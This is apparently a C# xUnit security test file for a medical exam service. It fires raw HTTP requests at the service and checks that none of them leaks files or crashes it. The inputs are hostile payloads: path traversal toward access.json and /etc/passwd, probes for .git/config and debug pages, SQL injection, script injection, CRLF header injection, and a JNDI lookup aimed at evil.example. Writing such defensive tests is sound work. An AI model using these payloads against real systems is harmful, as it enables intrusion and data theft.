namespace PupilBridge.Scenarios.Tests.Attacks;

/// <summary>Ways out of the folder of assets, and out of the numbers of exams (ASVS 5.0, 5.3.2, 13.4.1, 13.4.3, 13.4.5).</summary>
[Collection(AttackedServiceGroup.Name)]
public sealed class TraversalTests(AttackedService service)
{
    [Theory]
    [InlineData("/assets/../access.json")]
    [InlineData("/assets/..%2faccess.json")]
    [InlineData("/assets/%2e%2e/%2e%2e/access.json")]
    [InlineData("/assets/%252e%252e%252faccess.json")]
    [InlineData("/assets/..%5c..%5caccess.json")]
    [InlineData("/assets/....//....//access.json")]
    [InlineData("/assets//etc/passwd")]
    [InlineData("/assets/%c0%ae%c0%ae/access.json")]
    [InlineData("/assets/css/sign-in.css%00.json")]
    [InlineData("/assets/css/")]
    [InlineData("/assets/")]
    [InlineData("/%2e%2e/%2e%2e/etc/passwd")]
    [InlineData("/exams/..%2f..%2faccess.json")]
    [InlineData("/exams/1/report.pdf/../../../access.json")]
    [InlineData("/bench/certificates/1/certificate.json%2f..%2f..%2faccess.json")]
    [InlineData("/api/v1/exams/1/exports/..%2f..%2faccess.json")]
    [InlineData("/.git/config")]
    [InlineData("/access.json")]
    [InlineData("/pupilbridge.json")]
    [InlineData("/_framework/blazor.web.js.map")]
    [InlineData("/swagger/index.html")]
    [InlineData("/metrics")]
    [InlineData("/health")]
    [InlineData("/debug")]
    [InlineData("/actuator/env")]
    [InlineData("/trace.axd")]
    public async Task No_path_leads_to_a_file_of_the_machine_or_to_a_page_for_debugging(string path)
    {
        var visitor = await service.SignedInAsync(AttackedService.Examiner);
        var came = await service.Raw.SendAsync(
            $"GET {path} HTTP/1.1\r\nHost: {service.Host}\r\nCookie: {visitor.Cookies}\r\nConnection: close\r\n\r\n"
        );
        Assert.InRange(Assert.Single(RawHttp.Statuses(came)), 400, 404);
        Assert.DoesNotContain("root:", came, StringComparison.Ordinal);
        Assert.DoesNotContain("passwordHash", came, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("Index of", came, StringComparison.OrdinalIgnoreCase);
        await service.StandsAsync();
    }

    [Theory]
    [InlineData("/exams/9223372036854775807")]
    [InlineData("/exams/9223372036854775808")]
    [InlineData("/exams/-1")]
    [InlineData("/exams/1e3")]
    [InlineData("/exams/0x1")]
    [InlineData("/raw/9223372036854775807")]
    [InlineData("/patients/%1b%5b2J")]
    [InlineData("/patients/%0d%0aSet-Cookie:%20a=b")]
    [InlineData("/patients/%3cscript%3ealert(1)%3c%2fscript%3e")]
    [InlineData("/patients/%ff%fe")]
    [InlineData("/people/%00")]
    [InlineData("/lane/%2e%2e%2f")]
    [InlineData("/api/v1/exams?limit=99999999999")]
    [InlineData("/api/v1/exams?limit=-1")]
    [InlineData("/api/v1/exams?after=%00")]
    [InlineData("/api/v1/exams?from=0001-01-01T00:00:00Z&before=9999-12-31T23:59:59Z")]
    [InlineData("/api/v1/patients?find=%27%20or%201%3d1%20--&limit=500")]
    [InlineData("/api/v1/patients?find=$.Name")]
    [InlineData("/api/v1/tables/exams?format=../../x")]
    [InlineData("/api/v1/exams?patient=%24%7bjndi:ldap://evil.example%7d&patient=b")]
    public async Task No_number_or_question_makes_the_service_stumble(string path)
    {
        var visitor = await service.SignedInAsync(AttackedService.Clinician);
        var came = await service.Raw.SendAsync(
            $"GET {path} HTTP/1.1\r\nHost: {service.Host}\r\nCookie: {visitor.Cookies}\r\nConnection: close\r\n\r\n"
        );
        Assert.InRange(Assert.Single(RawHttp.Statuses(came)), 200, 499);
        Assert.DoesNotContain("<script>alert", came, StringComparison.Ordinal);
        Assert.DoesNotContain("\nSet-Cookie: a=b", came, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("\x1b", came, StringComparison.Ordinal);
        await service.StandsAsync();
    }
}
